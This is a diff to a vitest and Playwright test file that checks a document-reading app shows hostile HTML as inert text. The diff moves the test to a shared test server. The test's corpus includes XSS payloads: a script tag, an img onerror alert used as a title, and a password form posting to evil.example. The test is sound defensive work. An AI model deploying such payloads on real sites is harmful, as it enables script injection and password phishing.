@@ -1,8 +1,7 @@
 /** Documents that try to run something, load something or lead somewhere: they stay text. */
-import type { Browser } from 'playwright-core';
-import { afterAll, beforeAll, expect, test } from 'vitest';
-import { type Lyceum, openBrowser, startLyceum, visit } from './browser.ts';
+import { expect, test } from 'vitest';
 import { addText } from './library-by-api.ts';
+import { sharedLyceum } from './shared-lyceum.ts';
 
 const corpus = [
   '<script>document.title = "taken"</script>',
@@ -22,29 +21,19 @@ const corpus = [
   '<form action="https://evil.example/"><input name="password"></form>',
 ];
 
-let browser: Browser;
-let lyceum: Lyceum;
-
-beforeAll(async () => {
-  [browser, lyceum] = await Promise.all([openBrowser(), startLyceum()]);
-});
-
-afterAll(async () => {
-  await browser.close();
-  await lyceum.stop();
-});
+const shared = sharedLyceum();
 
 test('hostile text is shown as text: nothing runs, nothing loads, nothing leads away', async () => {
   const filler = 'This paragraph is here so that there is something to read around it. '.repeat(3);
   const text = [filler, ...corpus.map((line) => `${line}\n\n${filler}`)].join('\n\n');
-  const { id } = await addText(lyceum.url, `<img src=x onerror=alert(1)> title`, text);
-  const { page, complaints, close } = await visit(browser, lyceum, { height: 6000 });
+  const { id } = await addText(shared.url, `<img src=x onerror=alert(1)> title`, text);
+  const { page, complaints, drawn, close } = await shared.visit({ height: 6000 });
   for (const tab of ['guide', 'read', 'notes']) {
     await page.goto(`/documents/${id}?tab=${tab}`);
     await page.getByRole('heading', { level: 1 }).waitFor();
-    await page.waitForLoadState('networkidle');
+    await drawn();
     expect(await page.title()).not.toMatch(/taken|^1/);
-    expect(new URL(page.url()).origin).toBe(lyceum.url);
+    expect(new URL(page.url()).origin).toBe(shared.url);
     const planted = page.locator(
       'main :is(script, iframe, style, base, form[action*="evil"], meta)',
     );
